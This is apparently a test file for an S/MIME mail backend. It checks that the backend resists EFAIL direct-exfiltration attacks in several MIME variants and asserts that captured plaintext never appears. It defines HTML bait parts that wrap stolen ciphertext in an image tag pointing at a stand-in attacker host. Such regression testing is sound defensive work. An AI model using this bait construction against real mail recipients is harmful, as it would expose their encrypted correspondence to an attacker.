/**
 * Attack: the two-encrypted-parts trick (EFAIL direct exfiltration, bait-and-prey). The attacker captured a message
 * encrypted to Bob and cannot read it; Bob's client can. So the attacker sends Bob a new message that embeds the
 * captured ciphertext next to content of their own: in an unprotected multipart (an HTML part opening
 * `<img src="https://evil/?` before the ciphertext and closing it after), as a second alternative, inside a container
 * the attacker encrypted to Bob themselves (anyone can, Bob's certificate is public), inside a container someone else
 * signed, as an octet-stream .p7m, or in an attached message/rfc822. A reader that decrypts every part and renders
 * the result as one "encrypted message" hands the plaintext to the attacker's markup, or shows the attacker's text as
 * if it were protected.
 *
 * Defence (backend/src/smime/message/incoming.ts): only the chain of S/MIME wrappers that starts at the message itself
 * protects it and is opened; S/MIME parts found inside the innermost unprotected entity are reported as `parts`, at
 * most 16, verified if signed, never decrypted into the rendered content, never merged into the message's status.
 *
 * What the test proves: through POST /messages/incoming with Bob unlocked (both databases), in each variant the
 * captured plaintext appears nowhere in the answer, the embedded ciphertext is reported as a part 'not opened', the
 * message-level `encrypted` flag and layers describe only the real wrapper; while the captured message sent on its
 * own does decrypt (sanity), and a wrapper nested directly around it (nothing of the attacker's beside it) is shown
 * as two separate layers.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { encryptEnvelope } from '../../backend/src/smime/cms/enveloped/index.ts';
import { parsePkcs12 } from '../../backend/src/smime/pkcs12/pkcs12.ts';
import { INTERMEDIATE, PKI_DIR, cert, key } from '../fixtures/pki/pki.ts';
import { buildSignedData } from '../fixtures/pki/signed-data-builder.ts';
import type { Client } from '../helpers/app.ts';
import { databaseTargets } from '../helpers/db.ts';
import {
  corpusP12,
  decodeContent,
  multipartMixed,
  multipartSigned,
  pkcs7Mime,
  pkcs7MimePart,
  placeKey,
  read,
  thunderbird,
  unlockHeader,
  startServerTrusting,
} from './world.ts';
import { corpusUnavailable } from '../helpers/unavailable.ts';

const BOB = 'bob@example.com';
const PASS = 'bob own passphrase 22';
const SECRET = 'The merger closes on Friday: captured secret 4e1d';
const NSS_TEXT = 'This is a test message from Alice to Bob.';
const BAIT_OPEN = Buffer.from('Content-Type: text/html\r\n\r\n<img src="https://attacker.example/?');
const BAIT_CLOSE = Buffer.from('Content-Type: text/html\r\n\r\n">');

const NO_CORPUS = corpusUnavailable("the case with Thunderbird's two encrypted alternatives");

for (const target of await databaseTargets()) {
  describe(`two encrypted parts (EFAIL) on ${target.name}`, () => {
    let server: Awaited<ReturnType<typeof startServerTrusting>> | undefined;
    let bob: Client;
    let cred: string;
    let bobCert: Uint8Array;
    let captured: Uint8Array; // Alice's EnvelopedData to Bob

    before(async () => {
      server = await startServerTrusting(target, [new URL('certs/root.pem', PKI_DIR)]);
      bob = await placeKey(server.srv, BOB, 'Bob.p12', PASS);
      cred = await unlockHeader(bob, PASS);
      bobCert = (await parsePkcs12(corpusP12('Bob.p12'), 'nss')).certificate;
      captured = await encryptEnvelope(Buffer.from(`Content-Type: text/plain; charset=utf-8\r\n\r\n${SECRET}\r\n`), [
        { certificate: bobCert },
      ]);
    });
    after(async () => {
      await server?.close();
    });

    const readAsBob = (raw: Buffer) => read(bob, raw, { 'x-smime-unlock': cred });
    /** The answer carries the plaintext nowhere: not in the content, not in any layer or part. */
    function assertNoPlaintext(r: { body: any; text: string }, name: string) {
      assert.ok(
        !r.text.includes(SECRET) && !decodeContent(r.body).includes(SECRET),
        `${name}: the captured plaintext leaked`,
      );
      assert.ok(
        !r.text.includes(NSS_TEXT) && !decodeContent(r.body).includes(NSS_TEXT),
        `${name}: the corpus plaintext leaked`,
      );
    }
    const notOpened = (p: any) => p.kind === 'encrypted' && p.status === 'not-opened' && /not opened/.test(p.detail);

    test('sanity: the captured message on its own decrypts for Bob', async () => {
      const r = await readAsBob(pkcs7Mime('alice@example.com', captured, 'enveloped-data'));
      assert.deepEqual(
        r.body.layers.map((l: any) => [l.kind, l.status]),
        [['encrypted', 'decrypted']],
        r.text,
      );
      assert.ok(decodeContent(r.body).includes(SECRET));
    });

    test('in an unprotected multipart between HTML bait: reported, not opened, nothing decrypted', async () => {
      for (const subtype of ['mixed', 'alternative', 'related']) {
        const r = await readAsBob(
          multipartMixed('mallory@example.com', [BAIT_OPEN, pkcs7MimePart(captured), BAIT_CLOSE], subtype),
        );
        assert.equal(r.status, 200, r.text);
        assert.deepEqual(r.body.layers, [], subtype);
        assert.equal(r.body.encrypted, false, subtype);
        assert.equal(r.body.parts.length, 1);
        assert.deepEqual(r.body.parts[0].path, [1]);
        assert.ok(notOpened(r.body.parts[0]), JSON.stringify(r.body.parts[0]));
        assertNoPlaintext(r, subtype);
      }
    });

    test("Thunderbird's corpus: two separately encrypted alternatives", { skip: NO_CORPUS }, async () => {
      const r = await readAsBob(thunderbird('mail-test-browser-smime-data/multipart-alternative.eml'));
      assert.equal(r.status, 200, r.text);
      assert.deepEqual(r.body.layers, []);
      assert.equal(r.body.parts.length, 2);
      assert.ok(r.body.parts.every(notOpened), JSON.stringify(r.body.parts));
      assertNoPlaintext(r, 'multipart-alternative.eml');
    });

    test('inside a container the attacker encrypted to Bob: the wrapper opens, the captured part does not', async () => {
      const inner = multipartMixed('mallory@example.com', [BAIT_OPEN, pkcs7MimePart(captured), BAIT_CLOSE]);
      const innerEntity = inner.subarray(inner.indexOf('Content-Type: multipart/mixed'));
      for (const cipher of ['aes-256-cbc', 'aes-256-gcm'] as const) {
        const wrapper = await encryptEnvelope(innerEntity, [{ certificate: bobCert }], { cipher });
        const r = await readAsBob(
          pkcs7Mime('mallory@example.com', wrapper, cipher.endsWith('gcm') ? 'authEnveloped-data' : 'enveloped-data'),
        );
        assert.deepEqual(
          r.body.layers.map((l: any) => [l.kind, l.status]),
          [['encrypted', 'decrypted']],
          r.text,
        );
        assert.equal(r.body.parts.length, 1, cipher);
        assert.ok(notOpened(r.body.parts[0]), JSON.stringify(r.body.parts));
        assertNoPlaintext(r, cipher);
        assert.ok(decodeContent(r.body).includes('attacker.example'), "the wrapper's own content is what is shown");
      }
    });

    test('inside a container someone else signed (valid signature): the signature is reported, the part not opened', async () => {
      const inner = multipartMixed('signer@pki.test', [
        Buffer.from('Content-Type: text/plain\r\n\r\nSee the attached statement.'),
        pkcs7MimePart(captured),
      ]);
      const innerEntity = inner.subarray(inner.indexOf('Content-Type: multipart/mixed'));
      const signerSpec = { cert: cert('signer'), key: key('signer'), signingTime: new Date('2026-11-24T00:00:00Z') };
      const detached = buildSignedData({
        content: innerEntity,
        detached: true,
        signers: [signerSpec],
        certificates: [cert('signer'), INTERMEDIATE],
      });
      const opaque = buildSignedData({
        content: innerEntity,
        detached: false,
        signers: [signerSpec],
        certificates: [cert('signer'), INTERMEDIATE],
      });
      for (const [name, raw] of [
        ['multipart/signed', multipartSigned('signer@pki.test', innerEntity, detached)],
        ['opaque signed-data', pkcs7Mime('signer@pki.test', opaque)],
      ] as const) {
        const r = await readAsBob(raw);
        assert.deepEqual(
          r.body.layers.map((l: any) => [l.kind, l.status]),
          [['signed', 'valid']],
          `${name}: ${r.text}`,
        );
        assert.equal(r.body.encrypted, false, `${name}: the message is not an encrypted one`);
        assert.equal(r.body.parts.length, 1, name);
        assert.ok(notOpened(r.body.parts[0]), JSON.stringify(r.body.parts));
        assertNoPlaintext(r, name);
      }
    });

    test('disguised as application/octet-stream .p7m, or in an attached message/rfc822: not opened', async () => {
      const octet = Buffer.from(
        `Content-Type: application/octet-stream; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(captured).toString('base64').replace(/.{76}/g, '$&\r\n')}`,
      );
      const a = await readAsBob(multipartMixed('mallory@example.com', [BAIT_OPEN, octet, BAIT_CLOSE]));
      assert.deepEqual(a.body.layers, []);
      assert.ok(a.body.parts.length === 1 && notOpened(a.body.parts[0]), JSON.stringify(a.body.parts));
      assertNoPlaintext(a, 'octet-stream');
      const attached = Buffer.concat([
        Buffer.from('Content-Type: message/rfc822\r\n\r\n'),
        pkcs7Mime('alice@example.com', captured, 'enveloped-data'),
      ]);
      const b = await readAsBob(multipartMixed('mallory@example.com', [BAIT_OPEN, attached, BAIT_CLOSE]));
      assert.equal(b.status, 200, b.text);
      assert.deepEqual(b.body.layers, []);
      assert.equal(b.body.encrypted, false);
      assertNoPlaintext(b, 'message/rfc822');
    });

    test('many embedded ciphertexts: at most 16 reported, none opened', async () => {
      const parts = [BAIT_OPEN, ...Array.from({ length: 20 }, () => pkcs7MimePart(captured)), BAIT_CLOSE];
      const r = await readAsBob(multipartMixed('mallory@example.com', parts));
      assert.equal(r.status, 200, r.text);
      assert.equal(r.body.parts.length, 16);
      assert.ok(r.body.parts.every(notOpened));
      assertNoPlaintext(r, '20 parts');
    });

    test('a signature by someone else directly around the captured ciphertext: reported as the outer layer, over the ciphertext', async () => {
      // Encrypt-then-sign is legal (RFC 8551 section 3.7); what the signer vouched for is the ciphertext, and the
      // answer says so by order: the signed layer is outside the encrypted one, not a signature over the plaintext.
      const innerEntity = pkcs7MimePart(captured);
      const p7s = buildSignedData({
        content: innerEntity,
        detached: true,
        signers: [{ cert: cert('signer'), key: key('signer'), signingTime: new Date('2026-11-24T00:00:00Z') }],
        certificates: [cert('signer'), INTERMEDIATE],
      });
      const r = await readAsBob(multipartSigned('signer@pki.test', innerEntity, p7s));
      assert.deepEqual(
        r.body.layers.map((l: any) => [l.kind, l.status]),
        [
          ['signed', 'valid'],
          ['encrypted', 'decrypted'],
        ],
        r.text,
      );
      assert.equal(r.body.layers[0].signatures[0].signer.emails[0], 'signer@pki.test');
      assert.deepEqual(r.body.parts, []);
    });

    test('a wrapper nested directly around the captured message (nothing beside it): two layers, shown as such', async () => {
      const innerEntity = pkcs7MimePart(captured);
      const wrapper = await encryptEnvelope(innerEntity, [{ certificate: bobCert }], { cipher: 'aes-256-gcm' });
      const r = await readAsBob(pkcs7Mime('mallory@example.com', wrapper, 'authEnveloped-data'));
      assert.deepEqual(
        r.body.layers.map((l: any) => [l.kind, l.status]),
        [
          ['encrypted', 'decrypted'],
          ['encrypted', 'decrypted'],
        ],
        r.text,
      );
      assert.deepEqual(r.body.parts, []);
      // The plaintext is shown to its addressee with nothing of the attacker's beside it: there is no bait to fill.
      assert.equal(
        decodeContent(r.body).replace(/\r\n/g, '\n'),
        `Content-Type: text/plain; charset=utf-8\n\n${SECRET}\n`,
      );
    });
  });
}
